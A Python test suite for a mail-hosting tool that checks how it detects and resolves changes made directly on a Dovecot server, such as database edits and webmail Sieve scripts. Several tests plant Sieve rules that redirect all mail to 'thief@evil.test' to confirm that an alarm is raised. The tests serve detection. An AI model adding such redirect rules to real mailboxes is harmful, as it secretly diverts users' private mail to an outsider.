"""What the user does in webmail, and what an administrator does in the database, found on a real Dovecot."""

import sqlite3
from contextlib import closing
from dataclasses import replace

import pytest

from accounts.models import Mailbox, RedirectAlarm
from audit.chain import record
from fleet.dovecot import Dovecot
from mailservers import credentials, drift, outbox
from mailservers.models import Change, DriftCheck, Server
from tests.mailservers.drivers.contract import OTHER_HASH, new_account
from tests.mailservers.drivers.mailbox import keep_own_script, script_text, scripts, webmail
from vacation.models import AutoReply
from vacation.services import save_auto_reply

OWN_RULES = 'require ["copy"];\n# rule:[on]\nif true\n{\n\tredirect :copy "thief@evil.test";\n}\n'
OWN_REPLY = 'require ["vacation"];\n# rule:[away]\nvacation :days 1 "My own reply.";\n'


@pytest.fixture
def dovecot(dovecot_with_sqlite: Dovecot) -> Dovecot:
    return dovecot_with_sqlite


@pytest.fixture
def server(db, dovecot):
    return Server.objects.create(
        name="maximusconfessor",
        kind="dovecot",
        endpoints=dovecot.endpoints(),
        sealed_credentials=credentials.seal(dovecot.credentials()),
    )


@pytest.fixture
def live(mailbox, owner, committed):
    """Live on the server, under names no other test uses."""
    names = new_account("example.test")
    mailbox.login, mailbox.address = names.login, names.address
    mailbox.save()
    with committed():
        outbox.request_push(mailbox, "account", record("mailbox.created", by=None, about=mailbox))
        reply = AutoReply(mailbox=mailbox, enabled=True, subject="Away", text="Back on Monday.")
        save_auto_reply(reply, seen_version=0, by=owner)
    assert list(mailbox.changes.values_list("state", flat=True)) == ["live", "live"]
    return Mailbox.objects.get()


@pytest.fixture
def told(live, server, committed):
    """Has the server checked, and tells what is said of the mailbox."""

    def told():
        with committed():
            drift.request_check(server)
        assert not DriftCheck.objects.unfinished()
        return {part.aspect: part.differences_told for part in drift.drifted_parts(live)}

    return told


def mark(live, aspect):
    return next(part for part in drift.drifted_parts(live) if part.aspect == aspect).mark


def test_nothing_was_changed(told):
    assert told() == {}


def test_a_row_changed_in_the_database(told, live, dovecot, committed, webmaster):
    with closing(sqlite3.connect(dovecot.directory / "db" / "accounts.sqlite3")) as database:
        database.execute(
            "UPDATE mailbox SET quota_bytes = 5000000, password = ? WHERE login = ?", [OTHER_HASH, live.login]
        )
        database.commit()
    [quota, password] = told()["account"]
    assert "room for" in quota
    assert password == "The mailbox has another password there."
    with committed():
        drift.keep_theirs(live, "account", seen=mark(live, "account"), by=webmaster)
    live.refresh_from_db()
    assert (live.quota_bytes, live.password_hash) == (5_000_000, OTHER_HASH)
    assert told() == {}


def test_another_script_made_active_in_webmail_is_taken_over(told, live, dovecot, committed, webmaster):
    keep_own_script(dovecot, live.login, "roundcube", OWN_REPLY)
    assert told() == {"script": ["The rule “away” in the script “roundcube” answers automatically."]}
    with committed():
        drift.keep_theirs(live, "script", seen=mark(live, "script"), by=webmaster)
    reply = AutoReply.objects.get()
    assert (reply.enabled, reply.text, reply.days) == (True, "My own reply.", 1)
    assert scripts(dovecot, live.login) == {"portal": True, "roundcube": False}
    off = 'if false # true\n{\n\tvacation :days 1 "My own reply.";\n}'
    rule = 'vacation :days 1 "My own reply.";'
    assert script_text(dovecot, live.login, "roundcube") == OWN_REPLY.replace(rule, off)
    assert told() == {}
    with committed():
        outbox.undo(Change.objects.with_way_back().latest("pk"), by=webmaster)
    # What was set here stands again. Theirs stays off: of two, the server would send none.
    assert AutoReply.objects.get().text == "Back on Monday."
    assert script_text(dovecot, live.login, "roundcube") == OWN_REPLY.replace(rule, off)
    assert told() == {}


def test_one_from_before_is_found_when_ours_is_refused(server, mailbox, dovecot, committed, webmaster):
    names = new_account("example.test")
    mailbox.login, mailbox.address = names.login, names.address
    mailbox.save()
    with committed():
        outbox.request_push(mailbox, "account", record("mailbox.created", by=None, about=mailbox))
    keep_own_script(dovecot, mailbox.login, "roundcube", OWN_REPLY)
    with committed():
        reply = AutoReply(mailbox=mailbox, enabled=True, text="Back on Monday.")
        change = save_auto_reply(reply, seen_version=0, by=webmaster)
    change.refresh_from_db()
    assert (change.state, change.reason_text) == (
        "failed",
        "The mailbox runs its own auto-reply in the script “roundcube”."
        " Choose on the mailbox's page which one holds, or switch it off in webmail.",
    )
    with committed():
        drift.restore_ours(mailbox, "script", seen=mark(mailbox, "script"), by=webmaster)
    assert Change.objects.latest("pk").state == "live"
    assert "if false # true" in script_text(dovecot, mailbox.login, "roundcube")


def test_the_portals_script_edited_in_webmail(told, live, dovecot, committed, webmaster):
    ours = script_text(dovecot, live.login, "portal")
    keep_own_script(dovecot, live.login, "portal", ours.replace("Back on Monday.", "Back on Friday."))
    assert told() == {"script": ["The auto-reply has another text there."]}
    with committed():
        drift.keep_theirs(live, "script", seen=mark(live, "script"), by=webmaster)
    assert AutoReply.objects.get().text == "Back on Friday."
    assert told() == {}


def test_a_script_that_was_rewritten_is_restored(told, live, dovecot, committed, webmaster):
    ours = script_text(dovecot, live.login, "portal")
    keep_own_script(dovecot, live.login, "portal", ours + 'redirect "thief@evil.test";\n')
    assert told() == {"script": ["Mail is forwarded there, and not here."]}
    assert RedirectAlarm.objects.get().targets == ["thief@evil.test"]
    with committed():
        drift.restore_ours(live, "script", seen=mark(live, "script"), by=webmaster)
    assert script_text(dovecot, live.login, "portal") == ours
    assert told() == {}


def test_a_redirect_among_the_users_own_rules(told, live, dovecot, webmaster, mailoutbox):
    webmaster.email = "willem@example.test"
    webmaster.save()
    assert told() == {}
    with webmail(dovecot, live.login) as client:
        client.put_script("roundcube", OWN_RULES)
        ours = client.get_script("portal")
        client.put_script("portal", ours + 'include :personal :optional "roundcube";\r\n')
    assert told() == {"script": ["The rule “on” in the script “roundcube” sends mail on."]}
    assert RedirectAlarm.objects.get().targets == ["thief@evil.test"]
    assert [mail.to for mail in mailoutbox] == [["willem@example.test"]]


def test_many_scripts_are_read_over_few_connections(told, live, dovecot, server, committed):
    """Mailboxes that are not there are in nobody's way."""
    for number in range(12):
        Mailbox.objects.create(
            address=f"more{number}@example.test",
            domain=live.domain,
            server=server,
            login=replace(new_account()).login,
            quota_bytes=0,
        )
    keep_own_script(dovecot, live.login, "roundcube", OWN_REPLY)
    assert list(told()) == ["script"]
